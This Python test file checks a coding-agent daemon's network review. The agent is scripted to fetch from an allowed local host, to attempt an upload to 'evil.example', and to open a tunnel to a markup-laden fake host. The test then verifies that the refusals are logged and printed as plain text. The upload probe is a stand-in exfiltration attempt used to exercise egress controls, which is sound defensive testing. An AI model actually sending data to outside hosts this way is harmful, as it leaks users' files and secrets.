"""The review shows what a run's commands did on the network (and its watchers saw each
refusal live): through the daemon, a run whose
commands fetch from an allowed loopback host and try a host not on the list; ``review/get``
carries both, per host, and ``locus review`` prints them — the refused host first, with the
proxy's reason, shown as text even where it looks like markup."""

from __future__ import annotations

import asyncio
from collections.abc import AsyncIterator
from pathlib import Path

import pytest
from aiohttp import web
from rich.console import Console

from locusd.cli.network import network_lines
from locusd.daemon import Daemon
from locusd.protocol.messages import ReviewParams, RunStartParams
from tests.adversarial.test_egress import fetch, tunnel
from tests.locusd.agentkit import TASK, call, fix_median_session, make_config, make_sample_repo
from tests.locusd.peers import Client
from tests.support.anthropic_server import AnthropicServer

pytestmark = pytest.mark.timeout(120)


@pytest.fixture
async def allowed_host() -> AsyncIterator[int]:
    async def page(request: web.Request) -> web.Response:
        return web.Response(text="x" * 5000)

    app = web.Application()
    app.router.add_get("/", page)
    runner = web.AppRunner(app, access_log=None)
    await runner.setup()
    await web.TCPSite(runner, "127.0.0.1", 0).start()
    try:
        yield runner.addresses[0][1]
    finally:
        await runner.cleanup()


async def test_the_review_shows_hosts_reached_and_refused(
    tmp_path: Path, allowed_host: int, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("ANTHROPIC_API_KEY", "sk-ant-review-network")
    session = fix_median_session()
    probes = [
        fetch(f"http://localhost:{allowed_host}/"),
        fetch("http://evil.example/upload"),
        tunnel("[bold]x", 80),  # not a host: refused, and its reason is text, not markup
    ]
    script = [*(call("run_command", command=p) for p in probes), *session]
    async with AnthropicServer(script) as model:
        config = make_config(tmp_path, base_url=model.base_url)
        config.agent.egress.allow = [f"localhost:{allowed_host}"]
        daemon = Daemon(config)
        repo = make_sample_repo(tmp_path)
        run = await daemon.runs_start(RunStartParams(repo=str(repo), task=TASK), Client())
        done = await asyncio.wait_for(daemon.runs.wait(run.run_id), 90)
    assert done.state == "awaiting_review", done.reason
    view = await daemon.review_get(ReviewParams(run_id=run.run_id), Client())
    notes = [e.text for e in daemon.store.events(run.run_id) if e.kind == "note"]
    await daemon.close()
    # Watchers saw each refusal as it happened.
    assert any(n.startswith("network: refused evil.example:80") for n in notes), notes

    uses = {(u["host"], u["port"]): u for u in view.network}
    reached = uses[("127.0.0.1", allowed_host)]  # localhost, through the relay's port
    assert reached["allowed"] and reached["received"] > 5000 and reached["connections"] == 1
    assert not uses[("evil.example", 80)]["allowed"]
    console = Console(record=True, width=200, force_terminal=False)
    for line in network_lines(view.network):
        console.print(line)
    shown = console.export_text()
    assert shown.index("REFUSED") < shown.index("reached")
    assert "evil.example:80" in shown and "not on the allowlist" in shown
    assert f"127.0.0.1:{allowed_host}" in shown and "received 5." in shown
    assert "[bold]x" in shown  # printed as the text it is
